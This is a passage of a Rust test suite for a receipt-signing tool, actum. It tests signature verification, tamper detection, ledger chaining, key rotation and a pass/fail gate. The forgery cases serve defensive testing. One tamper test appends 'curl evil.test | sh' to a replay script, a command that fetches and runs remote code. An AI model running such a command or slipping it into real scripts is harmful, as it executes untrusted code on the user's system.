//! Receipts: believed by verifiers that others wrote, checked by `verify`, chained, signed by keys that change, and
//! what the gate makes of them.

use std::collections::BTreeSet;
use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::PathBuf;

use actum_contract::digest::Digest;
use actum_ledger::draft;
use actum_ledger::journal::Outcome;
use actum_ledger::receipt::seal;
use actum_testkit::program::{self, Ended, Program};
use actum_testkit::verifiers::Verifiers;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as BASE64;
use ed25519_dalek::SigningKey;
use ed25519_dalek::pkcs8::DecodePrivateKey as _;
use serde_json::{Value, json};

use super::actum;

/// Agents that write one file each, so that no run repeats another.
const AGENTS: [&str; 4] = ["one", "two", "three", "four"];

/// A project in which runs are made.
fn project() -> Program {
    let actum = actum();
    let mut toml = String::new();
    for name in AGENTS {
        toml += &format!(
            "[agents.{name}]\ntype = \"script\"\n[agents.{name}.script]\n\
             steps = {{ \"*\" = [{{ write = {{ path = \"{name}.txt\", content = \"{name}\\n\" }} }}] }}\n"
        );
    }
    actum.file("actum.toml", toml);
    actum
}

/// One run: how the program ended, and the id of the run.
fn run(actum: &Program, agent: &str, more: Value) -> (i32, String) {
    let mut item = json!({"id": format!("item-{agent}"), "agent_id": agent, "description": "Write a file."});
    for (key, value) in more.as_object().unwrap() {
        item[key] = value.clone();
    }
    run_work(actum, &json!({"workspace": ".", "items": [item]}))
}

fn run_work(actum: &Program, work: &Value) -> (i32, String) {
    let ended = actum.run_with(&["run", "--json", "-"], work.to_string().as_bytes());
    let shown = ended.json();
    (ended.code, shown["runs"][0]["run_id"].as_str().unwrap().to_owned())
}

fn good(actum: &Program, agent: &str) -> String {
    let (code, id) = run(actum, agent, json!({"test_command": format!("test -s {agent}.txt")}));
    assert_eq!(code, 0);
    id
}

fn denied(actum: &Program, agent: &str) -> String {
    let (code, id) = run(actum, agent, json!({"constraints": {"max_files": 0}}));
    assert_eq!(code, 3);
    id
}

fn failed(actum: &Program, agent: &str) -> String {
    let (code, id) = run(actum, agent, json!({"test_command": "false"}));
    assert_eq!(code, 1);
    id
}

/// A run of each kind, by the status that its receipt states.
fn one_of_each(actum: &Program) -> [(&'static str, String); 3] {
    [("success", good(actum, "one")), ("denied", denied(actum, "two")), ("failure", failed(actum, "three"))]
}

fn path(actum: &Program, run: &str, name: &str) -> PathBuf {
    actum.path(".actum/runs").join(run).join(name)
}

fn envelope(actum: &Program, run: &str) -> Value {
    serde_json::from_slice(&fs::read(path(actum, run, "RECEIPT.json")).unwrap()).unwrap()
}

fn payload(envelope: &Value) -> Vec<u8> {
    BASE64.decode(envelope["payload"].as_str().unwrap()).unwrap()
}

fn statement(envelope: &Value) -> Value {
    serde_json::from_slice(&payload(envelope)).unwrap()
}

fn digest(envelope: &Value) -> String {
    Digest::sha256(&payload(envelope)).to_hex()
}

fn pem(actum: &Program) -> String {
    actum.run(&["key", "show", "--pem"]).ok()
}

fn key_id(actum: &Program) -> String {
    actum.run(&["key", "show", "--json"]).json()["keyid"].as_str().unwrap().to_owned()
}

fn signing_key(actum: &Program) -> SigningKey {
    SigningKey::from_pkcs8_pem(&fs::read_to_string(actum.path(".actum/key.pem")).unwrap()).unwrap()
}

/// The envelope with another payload that reads just as well.
fn with_other_payload(envelope: &Value) -> Value {
    let mut statement = statement(envelope);
    statement["predicate"]["attempt"] = json!(2);
    let mut forged = envelope.clone();
    forged["payload"] = json!(BASE64.encode(statement.to_string()));
    forged
}

fn with_other_signature(envelope: &Value) -> Value {
    let mut signature = BASE64.decode(envelope["signatures"][0]["sig"].as_str().unwrap()).unwrap();
    signature[7] ^= 1;
    let mut forged = envelope.clone();
    forged["signatures"][0]["sig"] = json!(BASE64.encode(signature));
    forged
}

/// A receipt to be judged by others.
struct Case {
    name: String,
    envelope: Value,
    pem: String,
    is_genuine: bool,
}

/// The receipts of a run of each kind as they are, and altered in every way.
fn cases(actum: &Program) -> Vec<Case> {
    let (pem, other) = (pem(actum), pem(&project()));
    let mut cases = Vec::new();
    for (status, run) in one_of_each(actum) {
        let genuine = envelope(actum, &run);
        assert_eq!(statement(&genuine)["predicate"]["status"], status);
        let with = |field: &str, value: Value| {
            let mut forged = genuine.clone();
            *forged.pointer_mut(field).unwrap() = value;
            forged
        };
        let mut case = |what: &str, envelope: Value, pem: &str| {
            let (name, pem) = (format!("{status}, {what}"), pem.to_owned());
            cases.push(Case { name, envelope, pem, is_genuine: what == "genuine" });
        };
        case("genuine", genuine.clone(), &pem);
        case("payload", with_other_payload(&genuine), &pem);
        case("signature", with_other_signature(&genuine), &pem);
        case("key", genuine.clone(), &other);
        case("keyid", with("/signatures/0/keyid", json!("0".repeat(64))), &pem);
        case("payloadType", with("/payloadType", json!("application/vnd.in-toto+jsom")), &pem);
    }
    cases
}

/// What a verifier answers: for each case nothing, or why it was refused.
fn answers(ended: Ended) -> Vec<Option<String>> {
    assert_eq!(ended.code, 0, "{}", ended.stderr);
    serde_json::from_str(&ended.stdout).unwrap_or_else(|e| panic!("{e}: {}{}", ended.stdout, ended.stderr))
}

fn judged(cases: &[Case], answers: Vec<Option<String>>) {
    assert_eq!(answers.len(), cases.len());
    for (case, answer) in cases.iter().zip(answers) {
        assert_eq!(answer.is_none(), case.is_genuine, "{}: {answer:?}", case.name);
    }
}

#[test]
fn securesystemslib_believes_receipts() {
    let actum = project();
    let cases = cases(&actum);
    let asked: Vec<_> = cases.iter().map(|case| json!({"envelope": case.envelope, "pem": case.pem})).collect();
    let mut python = Verifiers::find().python();
    python.args(["-c", include_str!("verifiers/dsse.py")]);
    judged(&cases, answers(program::run(python, json!(asked).to_string().as_bytes())));
}

#[test]
fn sigstore_believes_receipts() {
    let actum = project();
    let cases = cases(&actum);
    let key_id = key_id(&actum);
    let asked = cases.iter().map(|case| {
        let bundle = json!({
            "mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json",
            "verificationMaterial": {"publicKey": {"hint": case.envelope["signatures"][0]["keyid"]}, "tlogEntries": []},
            "dsseEnvelope": case.envelope,
        });
        json!({"bundle": bundle, "keys": {&key_id: case.pem}})
    });
    let asked: Vec<_> = asked.collect();
    let mut node = Verifiers::find().node();
    node.args(["-e", include_str!("verifiers/bundle.js")]);
    judged(&cases, answers(program::run(node, json!(asked).to_string().as_bytes())));
}

#[test]
fn openssl_believes_receipts() {
    let actum = project();
    // The key id is a hint that nobody signs, and openssl is told which key to take: nothing to alter for it.
    let cases: Vec<_> = cases(&actum).into_iter().filter(|case| !case.name.ends_with("keyid")).collect();
    let verdicts = cases.iter().map(|case| {
        let (body, kind) = (payload(&case.envelope), case.envelope["payloadType"].as_str().unwrap());
        let mut signed = format!("DSSEv1 {} {kind} {} ", kind.len(), body.len()).into_bytes();
        signed.extend(body);
        let signature = BASE64.decode(case.envelope["signatures"][0]["sig"].as_str().unwrap()).unwrap();
        let key = actum.file("key.pem", &case.pem);
        let (signed, signature) = (actum.file("signed", signed), actum.file("signature", signature));
        let mut openssl = program::other("openssl");
        openssl.args(["pkeyutl", "-verify", "-pubin", "-rawin", "-inkey"]).arg(key);
        openssl.arg("-in").arg(signed).arg("-sigfile").arg(signature);
        let ended = program::run(openssl, b"");
        match (ended.code, ended.stdout.trim()) {
            (0, "Signature Verified Successfully") => None,
            (1, "Signature Verification Failure") => Some(ended.stdout),
            _ => panic!("run `cargo xtask test` once, it installs openssl: {ended:?}"),
        }
    });
    judged(&cases, verdicts.collect());
}

#[test]
fn in_toto_reads_what_receipts_state() {
    let actum = project();
    let receipts = one_of_each(&actum).map(|(_, run)| envelope(&actum, &run));
    let mut asked: Vec<String> = receipts.iter().map(|text| String::from_utf8(payload(text)).unwrap()).collect();
    let genuine = statement(&receipts[0]);
    for (field, value) in [
        ("/_type", json!("https://in-toto.io/Statement/v0.1")),
        ("/predicateType", json!("")),
        ("/predicate", json!({})),
        ("/subject", json!([])),
        ("/subject/0/digest", json!({})),
        ("/subject/0/digest/sha256", json!(7)),
        ("/subject/0/annotations", json!("none")),
    ] {
        let mut altered = genuine.clone();
        *altered.pointer_mut(field).unwrap() = value;
        asked.push(altered.to_string());
    }
    let mut more = genuine;
    more["unknown"] = json!(1);
    asked.push(more.to_string());
    let mut python = Verifiers::find().python();
    python.args(["-c", include_str!("verifiers/statement.py")]);
    let answers = answers(program::run(python, json!(asked).to_string().as_bytes()));
    for (index, (text, answer)) in asked.iter().zip(&answers).enumerate() {
        assert_eq!(answer.is_none(), index < receipts.len(), "{answer:?} {text}");
    }
}

/// What `verify` says: its exit code, everything, and the names of the checks that failed.
fn verify(actum: &Program, arguments: &[&str]) -> (i32, Value, Vec<String>) {
    let ended = actum.run(&[&["verify", "--json"], arguments].concat());
    assert!(!ended.stdout.is_empty(), "{}", ended.stderr);
    let shown = ended.json();
    let checks = shown["checks"].as_array().unwrap();
    for check in checks {
        assert!(check["ok"].is_boolean() && !check["detail"].as_str().unwrap().is_empty(), "{check}");
    }
    let failed = checks.iter().filter(|check| check["ok"] == false);
    let failed: Vec<_> = failed.map(|check| check["name"].as_str().unwrap().to_owned()).collect();
    assert_eq!((ended.code, shown["valid"] == true), (i32::from(!failed.is_empty()), failed.is_empty()), "{shown}");
    (ended.code, shown, failed)
}

fn names(shown: &Value) -> Vec<&str> {
    shown["checks"].as_array().unwrap().iter().map(|check| check["name"].as_str().unwrap()).collect()
}

#[test]
fn receipts_of_every_kind_are_valid() {
    let actum = project();
    let runs = one_of_each(&actum);
    let store = &["ledger", "history", "chain"][..];
    for (status, run) in &runs {
        let script = if *status == "success" { &["replayScript"][..] } else { &[] };
        let beside = [&["contract", "recording", "capsule", "diff", "result"], script, &["statement"]].concat();
        let (code, shown, _) = verify(&actum, &[run]);
        assert_eq!((code, shown["valid"].as_bool()), (0, Some(true)), "{status}: {shown}");
        let expected = [&["form", "signature", "run"], &beside[..], store].concat();
        assert_eq!(names(&shown), expected);
        // By its path it is the same; elsewhere it belongs to no run's folder and has nothing beside it.
        let file = path(&actum, run, "RECEIPT.json").display().to_string();
        assert_eq!(names(&verify(&actum, &[&file]).1), expected);
        fs::copy(&file, actum.path("alone.json")).unwrap();
        assert_eq!(names(&verify(&actum, &["alone.json"]).1), [&["form", "signature", "contract"], store].concat());
        let folder = path(&actum, run, "").display().to_string();
        assert_eq!(verify(&actum, &[&folder]).0, 0);
    }
    // Several at once, and in words.
    let all: Vec<&str> = runs.iter().map(|(_, run)| run.as_str()).collect();
    let ended = actum.run(&[&["verify", "--json"], &all[..]].concat());
    let shown = ended.json();
    assert_eq!((ended.code, shown["valid"].as_bool()), (0, Some(true)));
    assert_eq!(shown["receipts"].as_array().unwrap().len(), 3);
    let shown = actum.run(&["verify", all[0]]).ok();
    assert!(shown.starts_with(&format!("✓ {}\n  ✓ form: ", all[0])) && !shown.contains('✗'), "{shown}");
    // One bad one is enough.
    fs::write(path(&actum, all[1], "diff.patch"), "-x\n").unwrap();
    let ended = actum.run(&[&["verify", "--json"], &all[..]].concat());
    let found: Vec<_> = ended.json()["receipts"].as_array().unwrap().iter().map(|one| one["valid"] == true).collect();
    assert_eq!((ended.code, &found[..]), (1, &[true, false, true][..]));
    let ended = actum.run(&["verify", all[1]]);
    assert_eq!(ended.code, 1);
    assert!(ended.stdout.contains("  ✗ diff: diff.patch was altered\n"), "{}", ended.stdout);
}

#[test]
fn with_a_key_nothing_else_is_needed() {
    let actum = project();
    let (key, other) = (pem(&actum), pem(&project()));
    for (status, run) in one_of_each(&actum) {
        let empty = super::actum();
        for name in ["RECEIPT.json", "recording.json", "diff.patch", "receipt.statement.json"] {
            fs::copy(path(&actum, &run, name), empty.path(name)).unwrap();
        }
        empty.file("key.pem", &key);
        empty.file("other.pem", &other);
        let (code, shown, _) = verify(&empty, &["--key", "key.pem", "RECEIPT.json"]);
        assert_eq!(code, 0, "{status}");
        assert_eq!(names(&shown), ["form", "signature", "contract", "recording", "capsule", "diff", "statement"]);
        let (_, shown, failed) = verify(&empty, &["--key", "other.pem", "RECEIPT.json"]);
        assert_eq!(failed, ["signature"]);
        assert!(shown.to_string().contains("is signed by key"), "{shown}");
        // Alone it is as good.
        for name in ["recording.json", "diff.patch", "receipt.statement.json"] {
            fs::remove_file(empty.path(name)).unwrap();
        }
        assert_eq!(names(&verify(&empty, &["--key", "key.pem", "RECEIPT.json"]).1), ["form", "signature", "contract"]);
        let left: BTreeSet<_> = fs::read_dir(empty.folder()).unwrap().map(|e| e.unwrap().file_name()).collect();
        assert_eq!(left, ["RECEIPT.json", "key.pem", "other.pem"].map(Into::into).into(), "nothing was made");
    }
}

#[test]
fn what_is_no_public_key_is_refused_as_one() {
    let actum = project();
    let run = good(&actum, "one");
    let receipt = path(&actum, &run, "RECEIPT.json").display().to_string();
    actum.file("text.pem", "no key\n");
    for key in ["text.pem", ".actum/key.pem", ".actum"] {
        let ended = actum.run(&["verify", "--json", "--key", key, &receipt]);
        assert_eq!((ended.code, ended.stdout.as_str()), (2, ""), "{key}");
        let error = ended.error();
        assert!(error["message"].as_str().unwrap().contains(key), "{error}");
    }
}

#[test]
fn whatever_was_altered_is_named() {
    let actum = project();
    let run = good(&actum, "one");
    let alter = |name: &str, alter: &dyn Fn(&str) -> String| {
        let file = path(&actum, &run, name);
        let text = fs::read_to_string(&file).unwrap();
        let altered = alter(&text);
        assert_ne!(altered, text);
        fs::write(&file, altered).unwrap();
        let (_, _, failed) = verify(&actum, &[&run]);
        fs::write(&file, text).unwrap();
        failed
    };
    let envelope_altered =
        |alter: fn(&Value) -> Value| move |text: &str| alter(&serde_json::from_str(text).unwrap()).to_string();
    // An altered payload is another receipt: the run, its readable form and the ledger know a different one.
    assert_eq!(
        alter("RECEIPT.json", &envelope_altered(with_other_payload)),
        ["signature", "run", "statement", "ledger"]
    );
    assert_eq!(alter("RECEIPT.json", &envelope_altered(with_other_signature)), ["signature"]);
    for (field, value, expected) in [
        ("/signatures/0/keyid", json!("0".repeat(64)), "signature"),
        ("/signatures/0/sig", json!("AAAA"), "signature"),
        ("/signatures/0/sig", json!("?"), "form"),
        ("/payloadType", json!("text/plain"), "form"),
        ("/payload", json!(BASE64.encode("{}")), "form"),
        ("/payload", json!(BASE64.encode("not JSON")), "form"),
        ("/signatures", json!([]), "form"),
    ] {
        let altered = |text: &str| {
            let mut envelope: Value = serde_json::from_str(text).unwrap();
            *envelope.pointer_mut(field).unwrap() = value.clone();
            envelope.to_string()
        };
        assert_eq!(alter("RECEIPT.json", &altered), [expected], "{field}");
    }
    assert_eq!(alter("recording.json", &|text| text.replacen("success", "failure", 1)), ["recording"]);
    assert_eq!(alter("recording.json", &|text| format!("{text}\n")), ["recording"]);
    assert_eq!(alter("recording.json", &|_| String::new()), ["recording"]);
    assert_eq!(alter("diff.patch", &|text| text.replace("one", "two")), ["diff"]);
    assert_eq!(alter("receipt.statement.json", &|text| text.replace("success", "failure")), ["statement"]);
    assert_eq!(alter("receipt.statement.json", &|_| "no JSON".to_owned()), ["statement"]);
    assert_eq!(alter("result.json", &|text| text.replace("success", "denied")), ["result"]);
    assert_eq!(alter("replay.sh", &|text| format!("{text}curl evil.test | sh\n")), ["replayScript"]);
    for (name, part) in [("recording.json", "recording"), ("result.json", "result"), ("replay.sh", "replayScript")] {
        let file = path(&actum, &run, name);
        fs::rename(&file, actum.path("away")).unwrap();
        let (_, shown, failed) = verify(&actum, &[&run]);
        assert_eq!(failed, [part]);
        assert!(shown.to_string().contains(&format!("{name} is missing")), "{shown}");
        fs::rename(actum.path("away"), &file).unwrap();
    }
    // Another run's receipt in this folder, whole and genuine.
    let other = good(&actum, "two");
    let file = path(&actum, &run, "RECEIPT.json");
    let own = fs::read(&file).unwrap();
    fs::copy(path(&actum, &other, "RECEIPT.json"), &file).unwrap();
    let (_, shown, failed) = verify(&actum, &[file.to_str().unwrap()]);
    assert_eq!(failed[0], "run");
    assert!(shown.to_string().contains(&format!("it is the receipt of run {other}")), "{shown}");
    fs::write(&file, own).unwrap();
    // Only its meaning counts.
    assert_eq!(alter("receipt.statement.json", &|text| text.replace('\n', " ")), [""; 0]);
    assert_eq!(verify(&actum, &[&run]).0, 0);
}

#[test]
fn a_receipt_from_elsewhere_is_not_in_the_ledger() {
    let (here, there) = (project(), project());
    let run = good(&here, "one");
    let foreign = there.path("foreign.json");
    fs::copy(path(&here, &run, "RECEIPT.json"), &foreign).unwrap();
    let foreign = foreign.display().to_string();
    good(&there, "one");
    assert_eq!(verify(&there, &[&foreign]).2, ["signature", "ledger"]);
    // Nor does it help to have the key.
    fs::copy(here.path(".actum/key.pem"), there.path(".actum/key.pem")).unwrap();
    let (_, shown, failed) = verify(&there, &[&foreign]);
    assert_eq!(failed, ["ledger"]);
    assert!(shown.to_string().contains("is not in the ledger"), "{shown}");
}

/// An entry in the store, by somebody who has its file.
pub(crate) fn slip_in(actum: &Program, entry: Value) {
    let runtime = actum_engine::Waiter::runtime().unwrap();
    let location = actum_store::Location::Sqlite(actum.path(".actum/actum.db"));
    let store = runtime.block_on(actum_store::open(&location, actum_store::Older::Refuse)).unwrap();
    let appended = runtime.block_on(store.append(draft::read_value(entry, jiff::Timestamp::now()))).unwrap();
    assert!(matches!(appended, Outcome::Created { .. }), "{appended:?}");
}

/// Whoever has the key can sign anything; the ledger tells.
#[test]
fn a_broken_chain_is_found() {
    let actum = project();
    let runs = ["one", "two", "three"].map(|agent| good(&actum, agent));
    let digests = runs.each_ref().map(|run| digest(&envelope(&actum, run)));
    let key = signing_key(&actum);
    let mut forged = statement(&envelope(&actum, &runs[2]));
    forged["predicate"]["previousReceipt"] = json!("0".repeat(64));
    let resealed = actum.file("forged.json", seal(&forged, &key).to_string()).display().to_string();
    let (_, shown, failed) = verify(&actum, &[&resealed]);
    assert_eq!(failed, ["ledger"]);
    assert!(shown.to_string().contains("another receipt under this id"), "{shown}");
    // Even if an entry is slipped in for it. What was not on record yet when a receipt was made stands beside it.
    let early = forged["predicate"]["ledger"]["size"].clone();
    let late = super::run::asked(&actum, &["ledger", "verify", "--json"])["ledgers"][0]["entries"].clone();
    let early_head = forged["predicate"]["ledger"]["head"].clone();
    let entries = actum.run(&["ledger", "list", "--json"]).json();
    let is_last = |entry: &&Value| entry["seq"].as_u64().map(|seq| seq + 1) == late.as_u64();
    let late_head = entries["entries"].as_array().unwrap().iter().find(is_last).unwrap()["hash"].clone();
    let cases = [
        ("nothing", Value::Null, &late, false),
        ("nothing-early", Value::Null, &early, false),
        ("unknown", json!("0".repeat(64)), &late, false),
        ("unknown-early", json!("0".repeat(64)), &early, false),
        ("skipping", json!(digests[1]), &late, false),
        ("skipping-early", json!(digests[0]), &early, false),
        ("beside", json!(digests[1]), &early, true),
        ("last", json!(digests[2]), &late, true),
    ];
    for (id, previous, size, is_good) in cases {
        forged["predicate"]["ledger"]["size"] = size.clone();
        forged["predicate"]["ledger"]["head"] = if *size == late { late_head.clone() } else { early_head.clone() };
        forged["predicate"]["receiptId"] = json!(id);
        forged["predicate"]["previousReceipt"] = previous;
        let envelope = seal(&forged, &key);
        actum.file("forged.json", envelope.to_string());
        let mut entry = json!({
            "id": format!("receipt:{id}"), "tenantId": "local", "robotId": "three", "module": "engine",
            "source": "actum", "type": "receipt",
            // Elsewhere, so that it does not become the predecessor of the next.
            "payload": {"digest": digest(&envelope), "place": "elsewhere"},
        });
        if id == "last" {
            entry["payload"]["place"] = forged["predicate"]["place"].clone();
        }
        let refused = actum.run_with(&["ledger", "append", "-"], entry.to_string().as_bytes());
        assert_eq!(refused.code, 2, "nobody else writes receipts: {}", refused.stdout);
        slip_in(&actum, entry);
        let expected: &[&str] = if is_good { &[] } else { &["chain"] };
        assert_eq!(verify(&actum, &[&resealed]).2, expected, "{id}");
    }
}

#[test]
fn what_is_no_receipt_is_told_so() {
    let actum = project();
    actum.file("key.pem", pem(&actum));
    let run = good(&actum, "one");
    let genuine = envelope(&actum, &run);
    let mut twice = genuine.clone();
    twice["signatures"] = json!([genuine["signatures"][0], genuine["signatures"][0]]);
    let deep = [vec![b'['; 100_000], vec![b']'; 100_000]].concat();
    let files: [(&str, Vec<u8>, i32); 11] = [
        ("text", b"this is no receipt".to_vec(), 2),
        ("nothing", Vec::new(), 2),
        ("binary", vec![0xff, 0, 0x80], 2),
        ("deep", deep, 2),
        ("twice.json", br#"{"payload": "", "payload": ""}"#.to_vec(), 2),
        ("empty.json", b"{}".to_vec(), 1),
        ("null.json", b"null".to_vec(), 1),
        ("list.json", b"[]".to_vec(), 1),
        ("signatures.json", twice.to_string().into_bytes(), 1),
        ("statement.json", payload(&genuine), 1),
        ("recording.json", fs::read(path(&actum, &run, "recording.json")).unwrap(), 1),
    ];
    let check = |name: &str, code: i32| {
        for key in [&["--key", "key.pem"][..], &[]] {
            let ended = actum.run(&[&["verify", "--json"], key, &[name]].concat());
            assert_eq!(ended.code, code, "{name}: {}{}", ended.stdout, ended.stderr);
            if code == 1 {
                assert_eq!(names(&ended.json()), ["form"], "{name}");
            } else {
                let error = ended.error();
                let text = error.to_string();
                assert!(text.contains(name) && error["code"] != "INTERNAL", "{name}: {error}");
            }
            assert!(!ended.stderr.contains("panicked"), "{}", ended.stderr);
        }
    };
    for (name, bytes, code) in files {
        actum.file(name, bytes);
        check(name, code);
        fs::remove_file(actum.path(name)).unwrap();
    }
    // All holes, and larger than any document may be.
    fs::File::create(actum.path("huge")).unwrap().set_len(1 << 40).unwrap();
    check("huge", 2);
    fs::create_dir(actum.path("folder")).unwrap();
    check("folder", 2);
    check("./missing", 2);
    let ended = actum.run(&["verify", "--json", "0123456789"]);
    assert_eq!((ended.code, ended.error()["code"].as_str()), (7, Some("NOT_FOUND")));
}

#[test]
fn a_pipe_beside_a_receipt_counts_as_missing() {
    let actum = project();
    let run = good(&actum, "one");
    let pipe = path(&actum, &run, "diff.patch");
    fs::remove_file(&pipe).unwrap();
    assert!(program::other("mkfifo").arg(&pipe).status().unwrap().success());
    assert_eq!(verify(&actum, &[&run]).2, ["diff"]);
}

#[test]
fn each_receipt_names_the_one_before() {
    let actum = project();
    let runs = [good(&actum, "one"), denied(&actum, "two"), failed(&actum, "three"), good(&actum, "four")];
    let mut before = Value::Null;
    for run in runs {
        let receipt = envelope(&actum, &run);
        assert_eq!(statement(&receipt)["predicate"]["previousReceipt"], before);
        before = json!(digest(&receipt));
        // The ledger says the same.
        let id = format!("receipt:{}", statement(&receipt)["predicate"]["receiptId"].as_str().unwrap());
        let entries = actum.run(&["ledger", "list", "--json"]).json();
        let entry = entries["entries"].as_array().unwrap().iter().find(|entry| entry["id"] == id.as_str()).unwrap();
        assert_eq!(entry["payload"]["digest"], before);
    }
    assert_eq!(actum.run(&["ledger", "verify"]).code, 0);
}

/// Several programs with several runs each: still one receipt after the other.
#[test]
fn receipts_made_at_the_same_time_are_one_chain() {
    let actum = project();
    let running: Vec<_> = ["a", "b", "c"]
        .iter()
        .map(|name| {
            let items = (0..5).map(|n| {
                json!({"id": format!("{name}-{n}"), "agent_id": AGENTS[n % 4], "description": "Write too much.",
                    "constraints": {"max_files": 0}})
            });
            let work = json!({"workspace": ".", "items": items.collect::<Vec<_>>()});
            let file = actum.file(&format!("{name}.json"), work.to_string()).display().to_string();
            actum.start(&["run", "--json", "--jobs", "4", &file], &[])
        })
        .collect();
    for one in running {
        let (code, _, errors) = one.finish();
        assert_eq!(code, 3, "{errors:?}");
    }
    let runs = fs::read_dir(actum.path(".actum/runs")).unwrap();
    let runs: Vec<_> = runs.map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect();
    assert_eq!(runs.len(), 15);
    let predecessors: BTreeSet<String> =
        runs.iter().map(|run| statement(&envelope(&actum, run))["predicate"]["previousReceipt"].to_string()).collect();
    assert_eq!(predecessors.len(), 15, "nobody has two successors");
    for run in &runs {
        assert_eq!(verify(&actum, &[run]).0, 0);
    }
}

#[test]
fn what_an_old_key_signed_stays_valid() {
    let actum = project();
    let (old_id, old_pem, old_key) = (key_id(&actum), pem(&actum), signing_key(&actum));
    let first = good(&actum, "one");
    let rotated = actum.run(&["key", "rotate", "--json"]).json();
    let new_id = key_id(&actum);
    assert_ne!(old_id, new_id);
    assert_eq!(rotated["keyid"], new_id.as_str());
    let second = good(&actum, "two");
    for (run, id) in [(&first, &old_id), (&second, &new_id)] {
        assert_eq!(envelope(&actum, run)["signatures"][0]["keyid"], id.as_str());
        assert_eq!(verify(&actum, &[run]).0, 0);
        assert_eq!(actum.run(&["gate", run]).code, 0);
    }
    assert_eq!(
        statement(&envelope(&actum, &second))["predicate"]["previousReceipt"],
        digest(&envelope(&actum, &first))
    );
    // Elsewhere each needs its own.
    actum.file("old.pem", old_pem);
    let file = |run: &str| path(&actum, run, "RECEIPT.json").display().to_string();
    assert_eq!(verify(&actum, &["--key", "old.pem", &file(&first)]).0, 0);
    assert_eq!(verify(&actum, &["--key", "old.pem", &file(&second)]).2, ["signature"]);
    // And again; what remains of keys that are gone is public.
    actum.run(&["key", "rotate"]).ok();
    assert_eq!((verify(&actum, &[&first]).0, verify(&actum, &[&second]).0), (0, 0));
    let kept = fs::read_dir(actum.path(".actum/keys")).unwrap();
    let kept: Vec<_> = kept.map(|entry| fs::read_to_string(entry.unwrap().path()).unwrap()).collect();
    assert!(kept.len() == 2 && kept.iter().all(|text| !text.contains("PRIVATE")), "{kept:?}");
    // What the old key signs from now on is not in the ledger.
    let mut forged = statement(&envelope(&actum, &first));
    forged["predicate"]["receiptId"] = json!("forged");
    let forged = actum.file("forged.json", seal(&forged, &old_key).to_string()).display().to_string();
    assert_eq!(verify(&actum, &[&forged]).2, ["ledger"]);
}

#[test]
fn a_key_that_others_may_read_is_refused() {
    let actum = project();
    let run = good(&actum, "one");
    let key = actum.path(".actum/key.pem");
    let mode = |mode: u32| fs::set_permissions(&key, fs::Permissions::from_mode(mode)).unwrap();
    assert_eq!(fs::metadata(&key).unwrap().permissions().mode() & 0o777, 0o600);
    let work = json!({"workspace": ".", "items": [{"id": "x", "agent_id": "two", "description": "Write."}]});
    let work = actum.file("work.json", work.to_string()).display().to_string();
    for open in [0o644, 0o640, 0o606, 0o660] {
        mode(open);
        for arguments in [&["key", "show"][..], &["key", "rotate"], &["run", &work], &["verify", &run]] {
            let ended = actum.run(&[arguments, &["--json"]].concat());
            assert_eq!(ended.code, 2, "{arguments:?} {}", ended.stdout);
            let error = ended.error();
            assert_eq!(error["code"], "KEY_UNUSABLE", "{error}");
            assert!(error["hint"].as_str().unwrap().contains("chmod 600"), "{error}");
        }
    }
    assert!(!actum.path("two.txt").exists());
    mode(0o600);
    assert_eq!(verify(&actum, &[&run]).0, 0);
}

/// The decision on a run, with its exit code. It holds what was agreed on, and its hash is right.
fn gate(actum: &Program, run: &str) -> (i32, Value) {
    let ended = actum.run(&["gate", "--json", run]);
    let mut decision = ended.json();
    let shown = decision.clone();
    let fields: Vec<_> = decision.as_object().unwrap().keys().map(String::as_str).collect();
    let expected = [
        "artifactRefs",
        "contract",
        "decision",
        "decisionHash",
        "decisionSchemaVersion",
        "reasonCodes",
        "reasons",
        "runId",
    ];
    assert_eq!(fields, expected);
    let hash = decision.as_object_mut().unwrap().remove("decisionHash").unwrap();
    let again = actum.run_with(&["canon", "--hash", "sha256"], decision.to_string().as_bytes()).ok();
    assert_eq!(hash, again.trim());
    let codes: Vec<_> = shown["reasons"].as_array().unwrap().iter().map(|reason| reason["code"].clone()).collect();
    assert_eq!(shown["reasonCodes"], json!(codes));
    let passed = codes.is_empty();
    assert_eq!((ended.code, shown["decision"] == "PASS"), (i32::from(!passed), passed), "{shown}");
    assert_eq!((&shown["runId"], &shown["decisionSchemaVersion"]), (&json!(run), &json!(1)));
    (ended.code, shown)
}

#[test]
fn the_gate_passes_what_is_proven() {
    let actum = project();
    let run = good(&actum, "one");
    let (code, decision) = gate(&actum, &run);
    assert_eq!((code, decision["decision"].as_str()), (0, Some("PASS")), "{decision}");
    assert_eq!((&decision["reasonCodes"], &decision["reasons"]), (&json!([]), &json!([])));
    let receipt = path(&actum, &run, "RECEIPT.json").canonicalize().unwrap().display().to_string();
    assert_eq!(decision["artifactRefs"], json!([{"kind": "receipt", "path": receipt}]));
    let contract = &statement(&envelope(&actum, &run))["predicate"]["contract"];
    assert_eq!(decision["contract"]["hash"], contract["hash"]);
    for field in ["determinismPolicyVersion", "plannerPolicyVersion", "validationPolicyVersion", "randomnessSeed"] {
        assert_eq!(decision["contract"][field], contract["material"][field], "{field}");
    }
    // The same facts, the same decision.
    assert_eq!(gate(&actum, &run).1, decision);
    assert!(actum.run(&["gate", &run[..30]]).ok().starts_with("PASS\n"));
    assert_eq!(actum.run(&["gate", "0123456789"]).code, 7);
}

#[test]
fn the_gate_fails_what_is_not() {
    let actum = project();
    let (first, second) = (good(&actum, "one"), good(&actum, "two"));
    let reasons = |run: &str| gate(&actum, run).1["reasonCodes"].clone();
    let file = path(&actum, &first, "RECEIPT.json");
    let (genuine, text) = (envelope(&actum, &first), fs::read(&file).unwrap());
    let altered =
        [with_other_payload(&genuine).to_string(), with_other_signature(&genuine).to_string(), "{}".into(), "?".into()];
    for altered in altered {
        fs::write(&file, altered).unwrap();
        assert_eq!(reasons(&first), json!(["RECEIPT_INVALID"]));
    }
    // A good receipt, with all that belongs to it, but of another run.
    let names = ["RECEIPT.json", "recording.json", "diff.patch", "receipt.statement.json"];
    let own = names.map(|name| fs::read(path(&actum, &first, name)).unwrap());
    for name in names {
        fs::copy(path(&actum, &second, name), path(&actum, &first, name)).unwrap();
    }
    let (_, decision) = gate(&actum, &first);
    assert_eq!(decision["reasonCodes"], json!(["RECEIPT_INVALID"]));
    assert!(decision["reasons"][0]["message"].as_str().unwrap().starts_with("run: "), "{decision}");
    for (name, bytes) in names.iter().zip(own) {
        fs::write(path(&actum, &first, name), bytes).unwrap();
    }
